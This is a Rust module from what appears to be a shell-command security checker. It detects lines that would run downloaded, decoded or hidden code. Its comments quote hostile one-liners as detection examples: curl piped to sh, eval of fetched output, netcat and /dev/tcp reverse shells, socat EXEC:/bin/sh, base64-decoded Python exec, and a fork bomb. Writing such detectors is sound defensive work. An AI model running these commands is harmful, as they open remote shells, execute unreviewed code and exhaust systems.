//! Would the line run code that was not reviewed: downloaded, decoded, or hidden from the eye?

mod elsewhere;
mod hidden;
mod table;

use std::collections::{BTreeSet, HashMap, HashSet};

use tenterhook_shell::{self as shell, Context, Line, Parsed, Target, Via, WordKind};

use super::Found;
use super::hosts::{self, DOWNLOADERS};
use super::literals;
use super::view::{Redirected, View};
use crate::event::meter::Meter;
use hidden::is_hidden;
use table::{
    CHANGERS, DATABASES, DECODERS, DECODING, EVALUATORS, FETCHED, HANDING_OVER, LANGUAGES, LOADING,
    MAKERS, OTHER_SHELLS, PRINTING, QUEUES, READ, REMOTE, RUNNING, SOCKETS,
};

/// Most files with code from elsewhere that are followed.
const MOST_FETCHED: usize = 256;

pub(super) fn note_run_code(
    line: &Line,
    views: &[View<'_>],
    groups: &[Redirected],
    text: &str,
    meter: &Meter<'_>,
    found: &mut Found,
) {
    if !views.iter().all(View::is_paid_for) || !meter.read(8 * text.len()) {
        return;
    }
    let mut kinds = Kinds::default();
    kinds.pipes(views);
    kinds.read_arguments(views);
    kinds.fed(views, groups, meter);
    kinds.files(views, groups);
    kinds.languages(views);
    kinds.remote(views, groups);
    kinds.variables(views);
    kinds.direct(views);
    if is_hidden(line, views, text) {
        kinds.add("hidden");
    }
    if is_fork_bomb(line, text) {
        kinds.add("fork bomb");
    }
    found.code.extend(kinds.0.into_iter().map(str::to_owned));
}

/// The kinds of unread code of one line, and what the substitutions of its words bring, each read once.
#[derive(Default)]
struct Kinds(BTreeSet<&'static str>, HashMap<String, Vec<&'static str>>);

impl Kinds {
    fn add(&mut self, kind: &'static str) {
        self.0.insert(kind);
    }

    /// Adds what the substitutions of a word bring.
    fn add_inside(&mut self, source: &str, meter: &Meter<'_>) {
        if !meter.read(4 * source.len()) || !source.contains(['$', '`', '(']) {
            return;
        }
        let found = self.1.entry(source.to_owned()).or_insert_with(|| inside(source, meter));
        self.0.extend(found.iter());
    }

    /// `curl ... | sh`: something that fetches or decodes stands before something that runs its input.
    fn pipes(&mut self, views: &[View<'_>]) {
        let mut before: BTreeSet<&'static str> = BTreeSet::new();
        let mut grouped: BTreeSet<&'static str> = BTreeSet::new();
        let mut is_fetched = false;
        for view in views {
            if runs_input(view) || runs_dash(view) {
                self.0.append(&mut before);
                // A group belongs to a pipeline only where what runs it stands in one.
                let mut grouped = std::mem::take(&mut grouped);
                if view.feeds() {
                    self.0.append(&mut grouped);
                }
            }
            if is_fetched && loads_input(view) {
                self.add("downloaded");
            }
            is_fetched |= view.feeds() && DOWNLOADERS.contains(&view.name.as_str());
            before.extend(brings(view).filter(|_| view.feeds()));
            grouped.extend(brings(view).filter(|_| in_group(view)));
        }
    }

    /// `python3 <(curl ...)`, and shells whose ends are on another machine: `nc -e sh host 99`, `sh > /dev/tcp/host/99`.
    fn remote(&mut self, views: &[View<'_>], groups: &[Redirected]) {
        let connected = views.iter().any(|view| {
            SOCKETS.contains(&view.name.as_str()) && !hosts::contacted_hosts(view).is_empty()
        });
        let is_socket = |file: &str| file.starts_with("/dev/tcp/") || file.starts_with("/dev/udp/");
        let of_group = groups.iter().any(|(_, file)| is_socket(file));
        for view in views {
            let words = view.command.words.iter().filter(|word| word.source.starts_with("<("));
            for word in words.filter(|_| is_language(&view.name)) {
                self.add_inside(&word.source, view.meter);
            }
            let is_shell = is_shell(&view.name);
            let socket = of_group || view.redirects.iter().any(|(_, file)| is_socket(file));
            let hands_over = SOCKETS.contains(&view.name.as_str())
                && (view.has_argument(HANDING_OVER) || view.args.iter().any(|arg| says_exec(arg)));
            // `sh -i 2>&1 | nc host 99`
            let talks = is_shell && view.feeds() && view.has('i', "") && connected;
            if (is_shell && socket) || hands_over || talks {
                self.add("downloaded");
            }
        }
    }

    /// `eval "$(curl ...)"`, `bash -c "$(...)"`, `bash <(curl ...)`, `sh <<< "$(...)"`.
    fn read_arguments(&mut self, views: &[View<'_>]) {
        for view in views {
            let own = view.command.words.iter().skip(1).filter(|_| takes_code(view));
            let reads = takes_code(view) || (is_language(&view.name) && runs_input(view));
            let targets =
                view.command.redirects.iter().filter_map(|redirect| match &redirect.target {
                    Target::Word(word) => Some(word).filter(|_| reads),
                    Target::HereDocument { .. } | Target::Closed => None,
                });
            let all = own.chain(code_words(view)).chain(targets);
            for word in all.filter(|word| word.kind == WordKind::Expansion) {
                self.add_inside(&word.source, view.meter);
            }
        }
    }

    /// Same for what a group is fed: `a || sh < <(curl ...)`.
    fn fed(&mut self, views: &[View<'_>], groups: &[Redirected], meter: &Meter<'_>) {
        if views.iter().any(takes_code) {
            let fed = groups.iter().filter(|(operator, _)| operator == "<");
            fed.for_each(|(_, file)| self.add_inside(file, meter));
        }
    }

    /// `curl -o x ... && sh x`, `base64 -d x > y; sh y`.
    fn files(&mut self, views: &[View<'_>], groups: &[Redirected]) {
        // `a || curl ... > x`: the file belongs to the list, and so does what is brought by any command of it.
        let bringing =
            |view: &View<'_>| brings(view).filter(|_| !CHANGERS.contains(&view.name.as_str()));
        let into = || groups.iter().filter(|(operator, _)| operator.starts_with('>'));
        let of_groups = views
            .iter()
            .filter_map(bringing)
            .flat_map(|kind| into().map(move |(_, file)| (kind, file.clone())));
        let mut fetched = Fetched::default();
        of_groups.take(MOST_FETCHED).for_each(|(kind, file)| fetched.add(kind, &file));
        for view in views {
            runs_files(view).for_each(|name| self.0.extend(fetched.kinds(name)));
            let Some(kind) = bringing(view) else { continue };
            if DOWNLOADERS.contains(&view.name.as_str()) {
                hosts::saved_files(view).iter().for_each(|file| fetched.add(kind, file));
            }
            let to = view.redirects.iter().filter(|(operator, _)| operator.starts_with('>'));
            to.for_each(|(_, file)| fetched.add(kind, file));
            view.values(&["-out"]).into_iter().for_each(|file| fetched.add(kind, file));
        }
    }

    /// `python -c 'exec(base64.b64decode(...))'`
    fn languages(&mut self, views: &[View<'_>]) {
        for code in views.iter().flat_map(literals::code) {
            let says = |words: &[&str]| words.iter().any(|word| code.contains(word));
            // A shell whose ends are on another machine.
            if code.contains("socket") && says(&["/bin/sh", "/bin/bash", "'sh'", "\"sh\""]) {
                self.add("downloaded");
            }
            if says(RUNNING) && says(DECODING) {
                self.add("decoded");
            }
            if says(LOADING) || (says(RUNNING) && says(FETCHED)) {
                self.add("downloaded");
            }
        }
    }
}

/// Files that hold code from elsewhere, by their names.
#[derive(Default)]
struct Fetched(HashMap<String, BTreeSet<&'static str>>);

impl Fetched {
    fn add(&mut self, kind: &'static str, file: &str) {
        self.0.entry(file_name(file).to_owned()).or_default().insert(kind);
    }

    fn kinds(&self, name: &str) -> impl Iterator<Item = &'static str> {
        self.0.get(name).into_iter().flatten().copied()
    }
}

/// The names of the files that a command would run: its own, what an interpreter is handed, and what it is fed.
fn runs_files<'v>(view: &'v View<'_>) -> impl Iterator<Item = &'v str> {
    let by_name = view.command.via.iter().filter_map(|via| match via {
        Via::Path(path) => Some(file_name(path.trim_matches(['"', '\'']))),
        Via::Wrapper(_) | Via::Equivalent(_) => None,
    });
    let reads = takes_code(view) || is_language(&view.name);
    let operand = view.operands(&["-c"]).into_iter().take(1);
    let fed = view.redirects.iter().filter(|(operator, _)| operator == "<");
    let read = operand.chain(fed.map(|(_, from)| from.as_str())).filter(move |_| reads);
    by_name.chain(read.map(file_name))
}

/// What kind of code a command would bring, were its output run.
fn brings(view: &View<'_>) -> Option<&'static str> {
    let name = view.name.as_str();
    let fetches = DOWNLOADERS.contains(&name) || SOCKETS.contains(&name);
    let operands = || view.operands(&[]);
    let prints = |(known, verbs): &(&str, &[&str])| {
        *known == name
            && operands().len() > 1
            && operands().iter().take(2).any(|verb| verbs.is_empty() || verbs.contains(verb))
    };
    if (fetches && (hosts::names_another(view) || !hosts::contacted_hosts(view).is_empty()))
        || PRINTING.iter().any(prints)
    {
        return Some("downloaded");
    }
    let decodes = DECODERS.iter().any(|(known, options)| {
        *known == name
            && (options.is_empty() || view.args.iter().any(|arg| options.contains(&arg.as_str())))
    });
    let spelt = || {
        view.command.words.iter().any(|word| word.source.contains("$'") && is_escaped(&word.source))
    };
    let escapes = matches!(name, "printf" | "echo")
        && (view.args.iter().any(|arg| is_escaped(arg)) || spelt());
    let prints = shell::strings::interpreter(name).is_some()
        && literals::code(view).iter().any(|code| DECODING.iter().any(|text| code.contains(text)));
    (decodes || escapes || prints).then_some("decoded")
}

/// Whether a database runs what it reads: `curl ... | psql`.
fn loads_input(view: &View<'_>) -> bool {
    DATABASES.contains(&view.name.as_str())
        && view.feeds()
        && !["-c", "-f", "-e", "--command", "--file", "--execute"]
            .iter()
            .any(|option| view.has_argument(&[option]))
}

/// Whether code runs what it reads: `perl -ne 'system($_)'`, `awk '{system($0)}'`.
fn runs_read(view: &View<'_>) -> bool {
    let says = |code: &str, words: &[&str]| words.iter().any(|word| code.contains(word));
    view.feeds() && literals::code(view).iter().any(|code| says(code, RUNNING) && says(code, READ))
}

/// Whether the program is a variable that `read` sets: `while read l; do $l; done`.
fn runs_line(view: &View<'_>) -> bool {
    let program = view.command.words.first().map(|word| word.source.trim_matches('"'));
    let is_name = |name: &str| name.chars().all(|c| c == '_' || c.is_ascii_alphanumeric());
    let name = program.and_then(|source| source.strip_prefix('$'));
    in_group(view) && view.command.words.len() == 1 && name.is_some_and(is_name)
}

/// Whether a command stands in a group, which may be a part of a pipeline: `{ curl ...; } | sh`.
fn in_group(view: &View<'_>) -> bool {
    let group = [Context::Subshell, Context::BraceGroup, Context::Body, Context::List];
    group.contains(&view.command.context)
}

/// `EXEC:/bin/sh` of `socat`.
fn says_exec(arg: &str) -> bool {
    let arg = arg.to_ascii_lowercase();
    arg.starts_with("exec:") || arg.starts_with("system:")
}

/// Whether a text spells characters by their numbers.
fn is_escaped(text: &str) -> bool {
    let hex = text.matches("\\x").count();
    let octal = text
        .split('\\')
        .skip(1)
        .filter(|part| part.starts_with(|c: char| ('0'..='7').contains(&c)))
        .count();
    hex >= 2 || octal >= 2
}

pub(super) fn is_language(name: &str) -> bool {
    LANGUAGES.contains(&name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'))
}

/// Whether a command runs what it finds on its input.
fn runs_input(view: &View<'_>) -> bool {
    let name = view.name.as_str();
    let operands = view.operands(&[]);
    if runs_read(view) || runs_line(view) {
        return true;
    }
    if is_shell(name) {
        let from_input = matches!(operands.first(), None | Some(&"-" | &"/dev/stdin"));
        return (from_input || view.has('s', ""))
            && !view.has('c', "command")
            && !view.has('n', "version")
            || behind_xargs(view);
    }
    if is_language(name) {
        let says_code = |arg: &String| {
            shell::strings::interpreter(name).is_some_and(|options| options.contains(&arg.as_str()))
                || arg == "-m"
        };
        return matches!(operands.first(), None | Some(&"-" | &"/dev/stdin"))
            && !view.args.iter().any(says_code)
            && !view.args.iter().any(|arg| arg.starts_with("--") || arg == "-V" || arg == "-v");
    }
    // `ssh host bash`, `docker exec -i x sh`, `parallel`, `at now`
    let last_is_shell =
        || operands.len() > 1 && operands.last().is_some_and(|operand| is_shell(operand));
    if REMOTE.contains(&name) {
        return last_is_shell() || (name == "ssh" && operands.len() == 1);
    }
    if QUEUES.contains(&name) {
        return !view.has('l', "list")
            && (name == "at" || operands.iter().all(|operand| *operand == "-"));
    }
    if name == "eval" {
        return view.command.words.iter().any(|word| word.kind == WordKind::Expansion);
    }
    if MAKERS.contains(&name) {
        return elsewhere::makes_input(view);
    }
    EVALUATORS.contains(&name) && operands.contains(&"/dev/stdin")
}

/// Runners of scripts that read one where they are handed `-`: `uv run -`, `deno run -`, `bun -`.
const DASH: &[&str] = &["uv", "deno", "bun", "tsx", "ts-node", "npx"];

fn runs_dash(view: &View<'_>) -> bool {
    // The reader may have lost a dash behind `run`, and without one nothing is run.
    let bare = || view.operands(&[]) == ["run"];
    DASH.contains(&view.name.as_str()) && (view.has_argument(&["-", "/dev/stdin"]) || bare())
}

/// The words behind the options with which an interpreter takes code: `python -c "$(curl ...)"`.
fn code_words<'w>(view: &'w View<'_>) -> impl Iterator<Item = &'w shell::Word> + Clone {
    let options = shell::strings::interpreter(&view.name).unwrap_or_default();
    let words = view.command.words.iter();
    let pairs = words.clone().zip(words.skip(1));
    pairs.filter(|(option, _)| options.contains(&option.text.as_str())).map(|(_, code)| code)
}

/// `... | xargs -I{} sh -c '{}'`
fn behind_xargs(view: &View<'_>) -> bool {
    let xargs = view.command.via.last() == Some(&Via::Wrapper("xargs"));
    xargs
        && view.has('c', "command")
        && view.command.words.iter().any(|word| word.kind == WordKind::Expansion)
}

/// Whether words or redirections of a command are code.
fn takes_code(view: &View<'_>) -> bool {
    EVALUATORS.contains(&view.name.as_str()) || is_shell(&view.name)
}

/// What the substitutions of a word bring.
fn inside(source: &str, meter: &Meter<'_>) -> Vec<&'static str> {
    let line = shell::read_while(&format!(": {source}"), &|steps| meter.spend(steps));
    let Some(inner) = line else { return Vec::new() };
    let paths = super::path::Paths::default();
    let seen = super::follow::follow_line(&inner, &paths, meter);
    seen.views.iter().filter_map(brings).collect()
}

/// `:(){ :|:& };:`: a function that pipes itself into itself, in the background. Its name has to be that of a command of the
/// line, so that a text about one does not match; where the line cannot be read, letters are all there is.
fn is_fork_bomb(line: &Line, text: &str) -> bool {
    let squeezed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    let programs: HashSet<&str> =
        line.commands.iter().filter_map(|command| command.program()).collect();
    let mut bodies = squeezed.split('{').skip(1);
    bodies.any(|body| {
        let Some((name, rest)) = body.split_once('|') else { return false };
        let again = rest.strip_prefix(name).is_some_and(|rest| rest.starts_with('&'));
        again && !name.is_empty() && (line.parsed != Parsed::Full || programs.contains(name))
    })
}

fn is_shell(name: &str) -> bool {
    shell::is_shell(name) || OTHER_SHELLS.contains(&name)
}

fn file_name(path: &str) -> &str {
    path.rsplit(['/', '\\']).next().unwrap_or_default()
}
